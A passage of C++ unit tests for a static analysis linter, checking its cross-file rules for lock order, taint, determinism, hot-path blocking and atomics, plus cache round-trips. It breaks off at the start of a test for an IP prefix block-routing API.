  EXPECT_TRUE(run_check("unbounded-growth", files).empty());
}

TEST(AtLintGrowth, AtBoundedAnnotationSilencesTheFinding) {
  auto files = growth_files();
  files[0].content =
      "#pragma once\n"
      "#include <string>\n"
      "#include <unordered_map>\n"
      "namespace at {\n"
      "class Tracker {\n"
      " public:\n"
      "  void ingest(const std::string& key) AT_UNTRUSTED;\n"
      " private:\n"
      "  // Bounded: capped upstream by the admission filter.\n"
      "  std::unordered_map<std::string, int> seen_ AT_BOUNDED;\n"
      "};\n"
      "}  // namespace at\n";
  EXPECT_TRUE(run_check("unbounded-growth", files).empty());
}

TEST(AtLintGrowth, UntaintedGrowthIsClean) {
  auto files = growth_files();
  // Same shape, no AT_UNTRUSTED anywhere: growth without taint is fine.
  files[0].content =
      "#pragma once\n"
      "#include <string>\n"
      "#include <unordered_map>\n"
      "namespace at {\n"
      "class Tracker {\n"
      " public:\n"
      "  void ingest(const std::string& key);\n"
      " private:\n"
      "  std::unordered_map<std::string, int> seen_;\n"
      "};\n"
      "}  // namespace at\n";
  EXPECT_TRUE(run_check("unbounded-growth", files).empty());
}

// --------------------------------------------------- cache v4: dataflow facts

TEST(AtLintCacheV4, FlowSummariesRoundTripThroughSerialization) {
  auto files = taint_two_hop_files("  out.reserve(buf.size());\n");
  Cache cache;
  RunOptions opts;
  opts.cache = &cache;
  const auto cold = run(files, opts);
  ASSERT_TRUE(has_rule(cold.violations, "taint-to-sink"));

  // Byte-stable round-trip, then a fully-warm run: the interprocedural
  // finding must be reconstructed from serialized FlowEdges + flags alone.
  Cache restored = Cache::deserialize(cache.serialize());
  EXPECT_EQ(restored.serialize(), cache.serialize());
  RunOptions opts2;
  opts2.cache = &restored;
  const auto warm = run(files, opts2);
  EXPECT_EQ(warm.stats.analyzed, 0u);
  ASSERT_TRUE(has_rule(warm.violations, "taint-to-sink"));
  EXPECT_NE(warm.violations.front().message.find("drive -> route -> consume"),
            std::string::npos);
}

TEST(AtLintCacheV4, BoundedFieldsRoundTripThroughSerialization) {
  auto files = growth_files();
  files.push_back({"src/growth/gc.cpp",
                   "#include \"growth/tracker.hpp\"\n"
                   "namespace at {\n"
                   "void Tracker_gc(std::unordered_map<std::string, int>& seen_) {\n"
                   "  seen_.erase(\"old\");\n"
                   "}\n"
                   "}  // namespace at\n"});
  Cache cache;
  RunOptions opts;
  opts.cache = &cache;
  EXPECT_FALSE(has_rule(run(files, opts).violations, "unbounded-growth"));

  Cache restored = Cache::deserialize(cache.serialize());
  RunOptions opts2;
  opts2.cache = &restored;
  const auto warm = run(files, opts2);
  EXPECT_EQ(warm.stats.analyzed, 0u);
  // The eviction evidence travels with gc.cpp's cached facts; losing it
  // in serialization would resurrect the finding on warm runs.
  EXPECT_FALSE(has_rule(warm.violations, "unbounded-growth"));
}

TEST(AtLintCacheV4, HeaderEditReExtractsOnlySiblingNotAllDependents) {
  // Three files: api.hpp + its sibling api.cpp (keyed together) and a
  // consumer keyed on its own bytes only. Annotating the header must (a)
  // re-extract just the header + sibling, and (b) still flip the
  // CONSUMER's project finding, because phase 2 re-links the consumer's
  // cached flow summaries against the fresh annotation.
  std::vector<SourceFile> files;
  files.push_back({"src/api/api.hpp",
                   "#pragma once\n"
                   "#include <string>\n"
                   "namespace at {\n"
                   "std::string fetch(const std::string& wire);\n"
                   "}  // namespace at\n"});
  files.push_back({"src/api/api.cpp",
                   "#include \"api/api.hpp\"\n"
                   "namespace at {\n"
                   "std::string fetch(const std::string& wire) { return wire; }\n"
                   "}  // namespace at\n"});
  files.push_back({"src/api/consumer.cpp",
                   "#include \"api/api.hpp\"\n"
                   "#include <vector>\n"
                   "namespace at {\n"
                   "void use(std::vector<int>& out) {\n"
                   "  const std::string body = fetch(\"x\");\n"
                   "  out.reserve(body.size());\n"
                   "}\n"
                   "}  // namespace at\n"});
  Cache cache;
  RunOptions opts;
  opts.cache = &cache;
  const auto cold = run(files, opts);
  EXPECT_FALSE(has_rule(cold.violations, "taint-to-sink"));

  files[0].content =
      "#pragma once\n"
      "#include <string>\n"
      "namespace at {\n"
      "std::string fetch(const std::string& wire) AT_UNTRUSTED;\n"
      "}  // namespace at\n";
  const auto warm = run(files, opts);
  EXPECT_EQ(warm.stats.analyzed, 2u);    // api.hpp + sibling api.cpp
  EXPECT_EQ(warm.stats.cache_hits, 1u);  // consumer.cpp stayed warm
  ASSERT_TRUE(has_rule(warm.violations, "taint-to-sink"));
  EXPECT_EQ(warm.violations.front().file, "src/api/consumer.cpp");
}

TEST(AtLintStaleSuppression, ProjectPhaseHitStaysLiveOnFullyWarmRuns) {
  // Regression guard for the merged stale accounting: a suppression whose
  // only hit comes from the project phase has a cached per-file count of
  // zero. On a fully-warm run (analyzed == 0) the fresh project hit must
  // still merge in — otherwise every cross-TU allow() goes stale the
  // moment the cache warms.
  std::vector<SourceFile> files;
  files.push_back({"src/st/a.cpp",
                   "#include <cstdio>\n"
                   "namespace at {\n"
                   "void drain() AT_HOT {\n"
                   "  // at_lint: allow(blocking-in-hot-path) — one-shot banner\n"
                   "  std::printf(\"go\\n\");\n"
                   "}\n"
                   "}  // namespace at\n"});
  Cache cache;
  RunOptions opts;
  opts.cache = &cache;
  const auto cold = run(files, opts);
  EXPECT_TRUE(cold.stale_suppressions.empty());

  Cache restored = Cache::deserialize(cache.serialize());
  RunOptions opts2;
  opts2.cache = &restored;
  const auto warm = run(files, opts2);
  EXPECT_EQ(warm.stats.analyzed, 0u);
  EXPECT_FALSE(has_rule(warm.violations, "blocking-in-hot-path"));
  EXPECT_TRUE(warm.stale_suppressions.empty());
}

// -------------------------------------------------------------------- stats

TEST(AtLintStats, PhaseTimingsPartitionTheAggregates) {
  std::vector<SourceFile> files;
  for (int i = 0; i < 8; ++i) {
    files.push_back({"src/s" + std::to_string(i) + ".cpp", "int x" + std::to_string(i) + ";\n"});
  }
  const auto result = run(files, RunOptions{});
  const auto& s = result.stats;
  EXPECT_GE(s.lex_ms, 0.0);
  EXPECT_GE(s.extract_ms, 0.0);
  EXPECT_GE(s.link_ms, 0.0);
  EXPECT_GE(s.check_ms, 0.0);
  EXPECT_NEAR(s.analyze_ms, s.lex_ms + s.extract_ms, 1e-6);
  EXPECT_NEAR(s.project_ms, s.link_ms + s.check_ms, 1e-6);
}

}  // namespace
}  // namespace at::lint
