// Tests for the at_lint v3 whole-program phase: cross-TU fact linking
// (call / lock / hot-path graphs), the three new rules it powers, the two
// ROADMAP carry-overs the PR-4 single-file engine provably missed, and the
// v3 cache behavior that keeps phase-1 facts warm while phase-2 results
// track edits in *other* files.

#include <algorithm>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "at_lint/cache.hpp"
#include "at_lint/lint.hpp"

namespace at::lint {
namespace {

bool has_rule(const std::vector<Violation>& vs, std::string_view rule) {
  return std::any_of(vs.begin(), vs.end(),
                     [&](const Violation& v) { return v.rule == rule; });
}

std::string read_fixture(const std::string& rel) {
  const std::string path = std::string(AT_SOURCE_ROOT) + "/" + rel;
  std::ifstream in(path, std::ios::binary);
  EXPECT_TRUE(in.good()) << "missing fixture " << path;
  std::ostringstream out;
  out << in.rdbuf();
  return out.str();
}

// ------------------------------------------- determinism, cross-TU closure
//
// ROADMAP carry-over #1: the PR-4 engine harvested container declarations
// only from a file and its sibling header, so a loop in consumer.cpp over a
// field declared in types.hpp was invisible. The whole-program phase
// resolves the field through the include closure.

std::vector<SourceFile> cross_tu_pair(std::string_view field_type) {
  std::vector<SourceFile> files;
  files.push_back({"src/cross/types.hpp",
                   "#pragma once\n"
                   "#include <string>\n"
                   "#include " + std::string(field_type == "std::unordered_map"
                                                 ? "<unordered_map>"
                                                 : "<map>") + "\n"
                   "namespace at {\n"
                   "struct Registry {\n"
                   "  std::string dump() const;\n"
                   "  " + std::string(field_type) + "<std::string, int> counts_;\n"
                   "};\n"
                   "}  // namespace at\n"});
  files.push_back({"src/cross/consumer.cpp",
                   "#include \"cross/types.hpp\"\n"
                   "namespace at {\n"
                   "std::string Registry::dump() const {\n"
                   "  std::string out;\n"
                   "  for (const auto& kv : counts_) {\n"
                   "    out += kv.first;\n"
                   "  }\n"
                   "  return out;\n"
                   "}\n"
                   "}  // namespace at\n"});
  return files;
}

TEST(AtLintCrossTuDeterminism, FiresOnFieldDeclaredInAnotherHeader) {
  const auto vs = run_check("determinism", cross_tu_pair("std::unordered_map"));
  ASSERT_TRUE(has_rule(vs, "determinism"));
  const auto& v = vs.front();
  EXPECT_EQ(v.file, "src/cross/consumer.cpp");
  EXPECT_NE(v.message.find("counts_"), std::string::npos);
  EXPECT_NE(v.message.find("src/cross/types.hpp"), std::string::npos);
}

TEST(AtLintCrossTuDeterminism, OrderedFieldInTheSameHeaderIsClean) {
  EXPECT_TRUE(run_check("determinism", cross_tu_pair("std::map")).empty());
}

TEST(AtLintCrossTuDeterminism, InvisibleDeclarationDoesNotFire) {
  // Same loop, but the declaring header is NOT in the consumer's include
  // closure: without a visible unordered declaration the pending loop must
  // stay silent (no guessing across unrelated same-named fields).
  auto files = cross_tu_pair("std::unordered_map");
  files[1].content =
      "namespace at {\n"
      "std::string dump_it() {\n"
      "  std::string out;\n"
      "  for (const auto& kv : counts_) {\n"
      "    out += kv.first;\n"
      "  }\n"
      "  return out;\n"
      "}\n"
      "}  // namespace at\n";
  EXPECT_TRUE(run_check("determinism", files).empty());
}

TEST(AtLintCrossTuDeterminism, VisibleOrderedTwinVetoesTheFinding) {
  // Two headers in the closure declare `counts_`: one unordered, one
  // ordered. The loop could iterate either; any ordered candidate vetoes.
  auto files = cross_tu_pair("std::unordered_map");
  files.push_back({"src/cross/other.hpp",
                   "#pragma once\n"
                   "#include <map>\n"
                   "#include <string>\n"
                   "namespace at {\n"
                   "struct Cache { std::map<std::string, int> counts_; };\n"
                   "}  // namespace at\n"});
  files[1].content = "#include \"cross/types.hpp\"\n"
                     "#include \"cross/other.hpp\"\n" +
                     files[1].content.substr(files[1].content.find("namespace"));
  EXPECT_TRUE(run_check("determinism", files).empty());
}

TEST(AtLintCrossTuDeterminism, OnDiskFixturePair) {
  std::vector<SourceFile> files;
  files.push_back({"src/cross/types.hpp",
                   read_fixture("tests/negative/at_lint/cross_tu_determinism/types.hpp")});
  files.push_back(
      {"src/cross/consumer.cpp",
       read_fixture("tests/negative/at_lint/cross_tu_determinism/consumer.cpp")});
  EXPECT_TRUE(has_rule(run_check("determinism", files), "determinism"));
}

// --------------------------------------------- lock-order, helper summaries
//
// ROADMAP carry-over #2: the PR-4 engine only saw nested LockGuard scopes
// inside one function, so acquiring A then calling a helper that acquires B
// contributed no A->B edge. Call-graph summaries (and AT_ACQUIRES on
// declarations whose bodies at_lint cannot see) close the gap.

TEST(AtLintLockOrderPropagated, HelperBodySummaryCompletesTheCycle) {
  std::vector<SourceFile> files;
  // The helper's body lives in api.hpp's sibling .cpp — the layout the
  // linker's closure pruning supports (a definition in x.cpp is callable
  // wherever x.hpp is visible).
  files.push_back({"src/lk/api.cpp",
                   "#include \"lk/api.hpp\"\n"
                   "namespace at {\n"
                   "void Box::locked_helper() {\n"
                   "  util::LockGuard g(b_mu_);\n"
                   "  ++n_;\n"
                   "}\n"
                   "}  // namespace at\n"});
  files.push_back({"src/lk/api.hpp",
                   "#pragma once\n"
                   "namespace at {\n"
                   "struct Box {\n"
                   "  void locked_helper();\n"
                   "  void path1();\n"
                   "  void path2();\n"
                   "};\n"
                   "}  // namespace at\n"});
  files.push_back({"src/lk/paths.cpp",
                   "#include \"lk/api.hpp\"\n"
                   "namespace at {\n"
                   "void Box::path1() {\n"
                   "  util::LockGuard g(a_mu_);\n"
                   "  locked_helper();\n"
                   "}\n"
                   "void Box::path2() {\n"
                   "  util::LockGuard g(b_mu_);\n"
                   "  util::LockGuard h(a_mu_);\n"
                   "}\n"
                   "}  // namespace at\n"});
  const auto vs = run_check("lock-order", files);
  ASSERT_TRUE(has_rule(vs, "lock-order"));
  EXPECT_NE(vs.front().message.find("a_mu_"), std::string::npos);
  EXPECT_NE(vs.front().message.find("b_mu_"), std::string::npos);
}

TEST(AtLintLockOrderPropagated, AtAcquiresAnnotationStandsInForTheBody) {
  std::vector<SourceFile> files;
  files.push_back({"src/lk/api.hpp",
                   "#pragma once\n"
                   "namespace at {\n"
                   "struct Box {\n"
                   "  void opaque_helper() AT_ACQUIRES(b_mu_);\n"
                   "  void path1();\n"
                   "  void path2();\n"
                   "};\n"
                   "}  // namespace at\n"});
  files.push_back({"src/lk/paths.cpp",
                   "#include \"lk/api.hpp\"\n"
                   "namespace at {\n"
                   "void Box::path1() {\n"
                   "  util::LockGuard g(a_mu_);\n"
                   "  opaque_helper();\n"
                   "}\n"
                   "void Box::path2() {\n"
                   "  util::LockGuard g(b_mu_);\n"
                   "  util::LockGuard h(a_mu_);\n"
                   "}\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(has_rule(run_check("lock-order", files), "lock-order"));
}

TEST(AtLintLockOrderPropagated, AmbiguousCalleeContributesNoEdge) {
  // Two project functions named `helper` resolve from the call site: the
  // fanout>1 edge must NOT propagate acquisitions (a wrong edge would
  // forge a deadlock report).
  std::vector<SourceFile> files;
  files.push_back({"src/lk/api.hpp",
                   "#pragma once\n"
                   "namespace at {\n"
                   "struct P { void helper() AT_ACQUIRES(b_mu_); void path1(); };\n"
                   "struct Q { void helper(); };\n"
                   "}  // namespace at\n"});
  files.push_back({"src/lk/paths.cpp",
                   "#include \"lk/api.hpp\"\n"
                   "namespace at {\n"
                   "void Q::helper() {}\n"
                   "void P::path1() {\n"
                   "  util::LockGuard g(a_mu_);\n"
                   "  helper();\n"
                   "}\n"
                   "void cycle_half() {\n"
                   "  util::LockGuard g(b_mu_);\n"
                   "  util::LockGuard h(a_mu_);\n"
                   "}\n"
                   "}  // namespace at\n"});
  EXPECT_FALSE(has_rule(run_check("lock-order", files), "lock-order"));
}

TEST(AtLintLockOrderPropagated, OnDiskFixturePair) {
  std::vector<SourceFile> files;
  files.push_back({"src/lk/api.hpp",
                   read_fixture("tests/negative/at_lint/lock_order_propagated/api.hpp")});
  files.push_back({"src/lk/paths.cpp",
                   read_fixture("tests/negative/at_lint/lock_order_propagated/paths.cpp")});
  EXPECT_TRUE(has_rule(run_check("lock-order", files), "lock-order"));
}

// ------------------------------------------------------ blocking-in-hot-path

TEST(AtLintHotPath, AtHotRootReachesBlockingCallee) {
  std::vector<SourceFile> files;
  files.push_back({"src/hp/a.cpp",
                   "#include <cstdio>\n"
                   "namespace at {\n"
                   "void log_line() { std::printf(\"tick\\n\"); }\n"
                   "void drain() AT_HOT {\n"
                   "  log_line();\n"
                   "}\n"
                   "}  // namespace at\n"});
  const auto vs = run_check("blocking-in-hot-path", files);
  ASSERT_TRUE(has_rule(vs, "blocking-in-hot-path"));
  EXPECT_NE(vs.front().message.find("printf"), std::string::npos);
  EXPECT_NE(vs.front().message.find("drain -> log_line"), std::string::npos);
}

TEST(AtLintHotPath, EngineDrainLoopIsAnImplicitRoot) {
  std::vector<SourceFile> files;
  files.push_back({"src/sim/engine.cpp",
                   "namespace at::sim {\n"
                   "void trace() { std::fprintf(stderr, \"x\");\n}\n"
                   "std::uint64_t Engine::run() {\n"
                   "  trace();\n"
                   "  return 0;\n"
                   "}\n"
                   "}  // namespace at::sim\n"});
  EXPECT_TRUE(has_rule(run_check("blocking-in-hot-path", files),
                       "blocking-in-hot-path"));
}

TEST(AtLintHotPath, InlineSuppressionIsAnEscapeHatch) {
  std::vector<SourceFile> files;
  files.push_back({"src/hp/a.cpp",
                   "#include <cstdio>\n"
                   "namespace at {\n"
                   "void drain() AT_HOT {\n"
                   "  // at_lint: allow(blocking-in-hot-path) — startup banner, once\n"
                   "  std::printf(\"go\\n\");\n"
                   "}\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(run_check("blocking-in-hot-path", files).empty());
}

TEST(AtLintHotPath, ColdFunctionsMayBlock) {
  std::vector<SourceFile> files;
  files.push_back({"src/hp/a.cpp",
                   "#include <cstdio>\n"
                   "namespace at {\n"
                   "void report() { std::printf(\"done\\n\"); }\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(run_check("blocking-in-hot-path", files).empty());
}

TEST(AtLintHotPath, OnDiskFixture) {
  const auto src = read_fixture(
      "tests/negative/at_lint/blocking_in_hot_path_violation.cpp");
  std::vector<SourceFile> files;
  files.push_back({"src/fix.cpp", src});
  EXPECT_TRUE(has_rule(run_check("blocking-in-hot-path", files),
                       "blocking-in-hot-path"));
}

// -------------------------------------------------------------- atomic-order

TEST(AtLintAtomicOrder, RelaxedLoadFeedingDerefNeedsAcquire) {
  std::vector<SourceFile> files;
  files.push_back({"src/ao/a.hpp",
                   "#pragma once\n"
                   "#include <atomic>\n"
                   "namespace at {\n"
                   "class Box {\n"
                   " public:\n"
                   "  int get() const { return *ptr_.load(std::memory_order_relaxed); }\n"
                   " private:\n"
                   "  std::atomic<int*> ptr_{nullptr};\n"
                   "};\n"
                   "}  // namespace at\n"});
  const auto vs = run_check("atomic-order", files);
  ASSERT_TRUE(has_rule(vs, "atomic-order"));
  EXPECT_NE(vs.front().message.find("ptr_"), std::string::npos);
  EXPECT_NE(vs.front().message.find("memory_order_acquire"), std::string::npos);
}

TEST(AtLintAtomicOrder, RelaxedFlagGuardingOtherMemberReads) {
  std::vector<SourceFile> files;
  files.push_back({"src/ao/a.hpp",
                   "#pragma once\n"
                   "#include <atomic>\n"
                   "namespace at {\n"
                   "class Box {\n"
                   " public:\n"
                   "  int read() const {\n"
                   "    if (ready_.load(std::memory_order_relaxed)) {\n"
                   "      return payload_;\n"
                   "    }\n"
                   "    return 0;\n"
                   "  }\n"
                   " private:\n"
                   "  std::atomic<bool> ready_{false};\n"
                   "  int payload_ = 0;\n"
                   "};\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(has_rule(run_check("atomic-order", files), "atomic-order"));
}

TEST(AtLintAtomicOrder, SameObjectGuardStaysRelaxed) {
  // The Engine::run_until clock-advance idiom: a relaxed load guarding a
  // relaxed store of the SAME atomic is single-writer-safe and must not
  // trip the publication heuristic.
  std::vector<SourceFile> files;
  files.push_back({"src/ao/a.hpp",
                   "#pragma once\n"
                   "#include <atomic>\n"
                   "namespace at {\n"
                   "class Clock {\n"
                   " public:\n"
                   "  void advance(long until) {\n"
                   "    if (now_.load(std::memory_order_relaxed) < until) {\n"
                   "      now_.store(until, std::memory_order_relaxed);\n"
                   "    }\n"
                   "  }\n"
                   " private:\n"
                   "  std::atomic<long> now_{0};\n"
                   "};\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(run_check("atomic-order", files).empty());
}

TEST(AtLintAtomicOrder, DefaultedSeqCstInsideHotFunction) {
  std::vector<SourceFile> files;
  files.push_back({"src/ao/a.hpp",
                   "#pragma once\n"
                   "#include <atomic>\n"
                   "namespace at {\n"
                   "class Counter {\n"
                   " public:\n"
                   "  void bump() AT_HOT { n_.fetch_add(1); }\n"
                   " private:\n"
                   "  std::atomic<long> n_{0};\n"
                   "};\n"
                   "}  // namespace at\n"});
  const auto vs = run_check("atomic-order", files);
  ASSERT_TRUE(has_rule(vs, "atomic-order"));
  EXPECT_NE(vs.front().message.find("seq_cst"), std::string::npos);
}

TEST(AtLintAtomicOrder, DefaultedSeqCstOffTheHotPathIsFine) {
  std::vector<SourceFile> files;
  files.push_back({"src/ao/a.hpp",
                   "#pragma once\n"
                   "#include <atomic>\n"
                   "namespace at {\n"
                   "class Counter {\n"
                   " public:\n"
                   "  void bump() { n_.fetch_add(1); }\n"
                   " private:\n"
                   "  std::atomic<long> n_{0};\n"
                   "};\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(run_check("atomic-order", files).empty());
}

TEST(AtLintAtomicOrder, OnDiskFixture) {
  std::vector<SourceFile> files;
  files.push_back(
      {"src/fix.hpp", read_fixture("tests/negative/at_lint/atomic_order_violation.hpp")});
  EXPECT_TRUE(has_rule(run_check("atomic-order", files), "atomic-order"));
}

// ----------------------------------------------------------- noexcept-escape

TEST(AtLintNoexceptEscape, NoexceptFunctionCallingThrowingHelper) {
  std::vector<SourceFile> files;
  files.push_back({"src/ne/a.cpp",
                   "#include <stdexcept>\n"
                   "namespace at {\n"
                   "void validate(int v) {\n"
                   "  if (v < 0) throw std::invalid_argument(\"v\");\n"
                   "}\n"
                   "void apply(int v) noexcept {\n"
                   "  validate(v);\n"
                   "}\n"
                   "}  // namespace at\n"});
  const auto vs = run_check("noexcept-escape", files);
  ASSERT_TRUE(has_rule(vs, "noexcept-escape"));
  EXPECT_NE(vs.front().message.find("apply"), std::string::npos);
  EXPECT_NE(vs.front().message.find("validate"), std::string::npos);
}

TEST(AtLintNoexceptEscape, DestructorIsImplicitlyNoexcept) {
  std::vector<SourceFile> files;
  files.push_back({"src/ne/a.cpp",
                   "#include <stdexcept>\n"
                   "namespace at {\n"
                   "struct Box {\n"
                   "  ~Box() { flush(); }\n"
                   "  void flush() { throw std::runtime_error(\"flush\"); }\n"
                   "};\n"
                   "}  // namespace at\n"});
  const auto vs = run_check("noexcept-escape", files);
  ASSERT_TRUE(has_rule(vs, "noexcept-escape"));
  EXPECT_NE(vs.front().message.find("destructor"), std::string::npos);
}

TEST(AtLintNoexceptEscape, ThreadPoolTaskMayNotThrow) {
  std::vector<SourceFile> files;
  files.push_back({"src/ne/a.cpp",
                   "#include <stdexcept>\n"
                   "namespace at {\n"
                   "void enqueue(util::ThreadPool& pool) {\n"
                   "  pool.submit([] {\n"
                   "    throw std::runtime_error(\"task\");\n"
                   "  });\n"
                   "}\n"
                   "}  // namespace at\n"});
  const auto vs = run_check("noexcept-escape", files);
  ASSERT_TRUE(has_rule(vs, "noexcept-escape"));
  EXPECT_NE(vs.front().message.find("ThreadPool task"), std::string::npos);
}

TEST(AtLintNoexceptEscape, TryBlockAtTheBoundaryAbsorbsTheThrow) {
  std::vector<SourceFile> files;
  files.push_back({"src/ne/a.cpp",
                   "#include <stdexcept>\n"
                   "namespace at {\n"
                   "void validate(int v) {\n"
                   "  if (v < 0) throw std::invalid_argument(\"v\");\n"
                   "}\n"
                   "void apply(int v) noexcept {\n"
                   "  try {\n"
                   "    validate(v);\n"
                   "  } catch (const std::exception&) {\n"
                   "  }\n"
                   "}\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(run_check("noexcept-escape", files).empty());
}

TEST(AtLintNoexceptEscape, NoexceptFalseIsNotARoot) {
  std::vector<SourceFile> files;
  files.push_back({"src/ne/a.cpp",
                   "#include <stdexcept>\n"
                   "namespace at {\n"
                   "void apply(int v) noexcept(false) {\n"
                   "  if (v < 0) throw std::invalid_argument(\"v\");\n"
                   "}\n"
                   "}  // namespace at\n"});
  EXPECT_TRUE(run_check("noexcept-escape", files).empty());
}

TEST(AtLintNoexceptEscape, OnDiskFixture) {
  std::vector<SourceFile> files;
  files.push_back(
      {"src/fix.cpp", read_fixture("tests/negative/at_lint/noexcept_escape_violation.cpp")});
  EXPECT_TRUE(has_rule(run_check("noexcept-escape", files), "noexcept-escape"));
}

// --------------------------------------------- cache v3: cross-TU freshness
//
// Phase-1 facts are cached per file; phase 2 relinks every run. Editing a
// header must therefore change DEPENDENT files' project findings without
// re-extracting the dependents — and unrelated edits must leave everything
// else warm.

TEST(AtLintCacheV3, HeaderEditFlipsDependentsProjectFindingWhileFactsStayWarm) {
  auto files = cross_tu_pair("std::unordered_map");
  Cache cache;
  RunOptions opts;
  opts.cache = &cache;
  const auto cold = run(files, opts);
  ASSERT_TRUE(has_rule(cold.violations, "determinism"));

  // Swap the field to an ordered map. Only the header re-extracts —
  // consumer.cpp is not its sibling — yet the cross-TU finding disappears
  // because phase 2 re-links fresh facts against cached ones.
  auto ordered = cross_tu_pair("std::map");
  files[0].content = ordered[0].content;
  const auto warm = run(files, opts);
  EXPECT_EQ(warm.stats.analyzed, 1u);
  EXPECT_EQ(warm.stats.cache_hits, 1u);
  EXPECT_FALSE(has_rule(warm.violations, "determinism"));
}

TEST(AtLintCacheV3, UnrelatedEditKeepsTheCrossTuFinding) {
  auto files = cross_tu_pair("std::unordered_map");
  files.push_back({"src/cross/extra.cpp", "namespace at {}\n"});
  Cache cache;
  RunOptions opts;
  opts.cache = &cache;
  (void)run(files, opts);
  files[2].content = "namespace at { int unrelated; }\n";
  const auto warm = run(files, opts);
  EXPECT_EQ(warm.stats.analyzed, 1u);
  EXPECT_EQ(warm.stats.cache_hits, 2u);
  // Cached phase-1 facts still carry the pending loop + container field:
  // the project finding survives without re-extraction.
  EXPECT_TRUE(has_rule(warm.violations, "determinism"));
}

TEST(AtLintCacheV3, FactRecordsRoundTripThroughSerialization) {
  std::vector<SourceFile> files;
  files.push_back({"src/rt/a.cpp",
                   "#include <cstdio>\n"
                   "#include <stdexcept>\n"
                   "namespace at {\n"
                   "void helper() { throw std::runtime_error(\"x\"); }\n"
                   "void drain() AT_HOT {\n"
                   "  std::printf(\"tick\\n\");\n"
                   "}\n"
                   "void apply() noexcept { helper(); }\n"
                   "}  // namespace at\n"});
  Cache cache;
  RunOptions opts;
  opts.cache = &cache;
  const auto cold = run(files, opts);
  ASSERT_TRUE(has_rule(cold.violations, "blocking-in-hot-path"));
  ASSERT_TRUE(has_rule(cold.violations, "noexcept-escape"));

  // Round-trip the cache through bytes, then a fully-warm run: both
  // project findings must be reconstructed from serialized facts alone.
  Cache restored = Cache::deserialize(cache.serialize());
  EXPECT_EQ(restored.serialize(), cache.serialize());
  RunOptions opts2;
  opts2.cache = &restored;
  const auto warm = run(files, opts2);
  EXPECT_EQ(warm.stats.analyzed, 0u);
  EXPECT_TRUE(has_rule(warm.violations, "blocking-in-hot-path"));
  EXPECT_TRUE(has_rule(warm.violations, "noexcept-escape"));
}

TEST(AtLintCacheV3, SuppressionHitCountsSurviveTheRoundTrip) {
  std::vector<SourceFile> files;
  files.push_back({"src/rt/a.cpp",
                   "int v = rand();  // at_lint: allow(banned-call) — seed demo\n"});
  Cache cache;
  RunOptions opts;
  opts.cache = &cache;
  const auto cold = run(files, opts);
  EXPECT_TRUE(cold.violations.empty());
  EXPECT_TRUE(cold.stale_suppressions.empty());

  Cache restored = Cache::deserialize(cache.serialize());
  RunOptions opts2;
  opts2.cache = &restored;
  const auto warm = run(files, opts2);
  EXPECT_EQ(warm.stats.analyzed, 0u);
  // The hit count was cached with the facts: the suppression is still not
  // stale even though nothing was re-analyzed this run.
  EXPECT_TRUE(warm.stale_suppressions.empty());
}

// ------------------------------------------------- stale inline suppressions

TEST(AtLintStaleSuppression, UnmatchedInlineAllowIsReported) {
  std::vector<SourceFile> files;
  files.push_back({"src/st/a.cpp",
                   "// at_lint: allow(banned-call) — nothing here trips it\n"
                   "int v = 0;\n"});
  const auto result = run(files, RunOptions{});
  ASSERT_EQ(result.stale_suppressions.size(), 1u);
  EXPECT_EQ(result.stale_suppressions[0].file, "src/st/a.cpp");
  EXPECT_EQ(result.stale_suppressions[0].rule, "banned-call");
}

TEST(AtLintStaleSuppression, ProjectPhaseHitIsNotStale) {
  std::vector<SourceFile> files;
  files.push_back({"src/st/a.cpp",
                   "#include <cstdio>\n"
                   "namespace at {\n"
                   "void drain() AT_HOT {\n"
                   "  // at_lint: allow(blocking-in-hot-path) — one-shot banner\n"
                   "  std::printf(\"go\\n\");\n"
                   "}\n"
                   "}  // namespace at\n"});
  const auto result = run(files, RunOptions{});
  EXPECT_FALSE(has_rule(result.violations, "blocking-in-hot-path"));
  EXPECT_TRUE(result.stale_suppressions.empty());
}

TEST(AtLintStaleSuppression, DocMentionsOfTheSyntaxAreNotSuppressions) {
  std::vector<SourceFile> files;
  files.push_back({"src/st/a.cpp",
                   "// Escape hatch: justify with // at_lint: allow(banned-call).\n"
                   "int v = 0;\n"});
  const auto result = run(files, RunOptions{});
  EXPECT_TRUE(result.stale_suppressions.empty());
}

// -------------------------------------------------------------------- stats

TEST(AtLintStats, PhaseTimingsPartitionTheAggregates) {
  std::vector<SourceFile> files;
  for (int i = 0; i < 8; ++i) {
    files.push_back({"src/s" + std::to_string(i) + ".cpp", "int x" + std::to_string(i) + ";\n"});
  }
  const auto result = run(files, RunOptions{});
  const auto& s = result.stats;
  EXPECT_GE(s.lex_ms, 0.0);
  EXPECT_GE(s.extract_ms, 0.0);
  EXPECT_GE(s.link_ms, 0.0);
  EXPECT_GE(s.check_ms, 0.0);
  EXPECT_NEAR(s.analyze_ms, s.lex_ms + s.extract_ms, 1e-6);
  EXPECT_NEAR(s.project_ms, s.link_ms + s.check_ms, 1e-6);
}

}  // namespace
}  // namespace at::lint
