// BlackHoleRouter control-plane API: prefix verbs, the capped audit ring,
// and CIDR aggregation options — the metadata tier staying in sync with
// the LpmTrie lookup tier.

#include <gtest/gtest.h>

#include <cstdint>

#include "bhr/bhr.hpp"

namespace at {
namespace {

using bhr::BlackHoleRouter;

TEST(BhrPrefix, BlockPrefixDropsWholeRangeAndExpires) {
  BlackHoleRouter router;
  const net::Cidr net24(net::Ipv4(203, 0, 113, 0), 24);
  ASSERT_TRUE(router.block_prefix(net24, 10, 100, "scanner net", "ops"));
  EXPECT_TRUE(router.is_blocked(net::Ipv4(203, 0, 113, 0), 10));
  EXPECT_TRUE(router.is_blocked(net::Ipv4(203, 0, 113, 255), 10));
  EXPECT_FALSE(router.is_blocked(net::Ipv4(203, 0, 114, 0), 10));
  EXPECT_EQ(router.stats(10).prefix_blocks, 1u);

  const auto entry = router.query(net::Ipv4(203, 0, 113, 77), 10);
  ASSERT_TRUE(entry.has_value());
  EXPECT_EQ(entry->reason, "scanner net");
  EXPECT_EQ(entry->expires_at, 110);

  EXPECT_EQ(router.expire(110), 1u);
  EXPECT_FALSE(router.is_blocked(net::Ipv4(203, 0, 113, 77), 110));
